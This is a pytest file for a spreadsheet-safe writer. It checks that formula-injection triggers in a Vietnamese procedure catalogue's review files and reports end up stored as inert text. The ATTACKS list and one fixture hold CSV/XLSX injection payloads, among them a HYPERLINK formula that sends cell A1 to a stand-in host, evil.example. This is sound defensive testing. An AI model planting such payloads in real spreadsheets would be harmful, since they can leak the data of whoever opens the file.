"""The one spreadsheet-safe writer (issue 20 item 4): formula triggers from any source are
text, never live formulas, in the catalogue review file (XLSX and CSV) and the reconcile reports;
the review file still reads back the codes it wrote."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from dvcsync.catalogue.matcher import LocalProcedure, Matcher, NationalProcedure
from dvcsync.catalogue.review import ReviewRow, decisions, read_review, write_review
from dvcsync.spreadsheet_safe import (
    FORMULA_START,
    append_row,
    csv_row,
    defuse_csv,
    formula_like,
    undefuse_csv,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_triggers_are_defused_and_come_back(text: str) -> None:
    assert formula_like(text)
    assert defuse_csv(text) == "'" + text
    assert undefuse_csv(defuse_csv(text)) == text
    assert csv_row([text, 3, None]) == ["'" + text, 3, None]


def test_plain_text_is_untouched() -> None:
    for text in ("Đăng ký khai sinh", "'quoted", "1.001193", ""):
        assert defuse_csv(text) == text and undefuse_csv(text) == text
    assert formula_like("#REF!")
    assert all(len(t) == 1 for t in FORMULA_START)


def test_append_row_keeps_formulas_as_text(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["header"])
    append_row(sheet, [ATTACKS[0], 5, "plain"])
    path = tmp_path / "x.xlsx"
    book.save(path)
    assert "<f>" not in _sheet_xml(path)
    again = load_workbook(path)["Sheet"]
    assert [c.value for c in again[2]] == [ATTACKS[0], 5, "plain"]
    assert again["A2"].data_type == "s" and again["A2"].quotePrefix


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def _review_rows() -> list[ReviewRow]:
    national = [
        NationalProcedure("1.001193", '=HYPERLINK("http://evil.example","Đăng ký khai sinh")'),
        NationalProcedure("1.000656", "Đăng ký kết hôn"),
    ]
    matcher = Matcher(national)
    return [
        ReviewRow(matcher.match(LocalProcedure("-L1", "+Đăng ký khai sinh")), "unmapped", None),
        ReviewRow(matcher.match(LocalProcedure("L-2", "@Đăng ký kết hôn")), "unmapped", None),
    ]


def test_review_xlsx_has_no_live_formula(tmp_path: Path) -> None:
    path = tmp_path / "review.xlsx"
    write_review(path, _review_rows())
    xml = _sheet_xml(path)
    assert "<f>" not in xml and "HYPERLINK" in xml  # the text is there, as text
    rows = read_review(path)
    assert rows[0][1]["local_code"] == "-L1" and rows[0][1]["local_name"] == "+Đăng ký khai sinh"


def test_review_csv_is_defused_and_reads_back(tmp_path: Path) -> None:
    path = tmp_path / "review.csv"
    write_review(path, _review_rows())
    with path.open(encoding="utf-8-sig", newline="") as f:
        cells = [c for row in list(csv.reader(f))[1:] for c in row]
    assert not any(c.startswith(FORMULA_START) for c in cells)
    assert "'+Đăng ký khai sinh" in cells and "'-L1" in cells
    rows = read_review(path)
    assert rows[0][1]["local_code"] == "-L1"
    assert {d.local_code for d in decisions(path)} <= {"-L1", "L-2"}
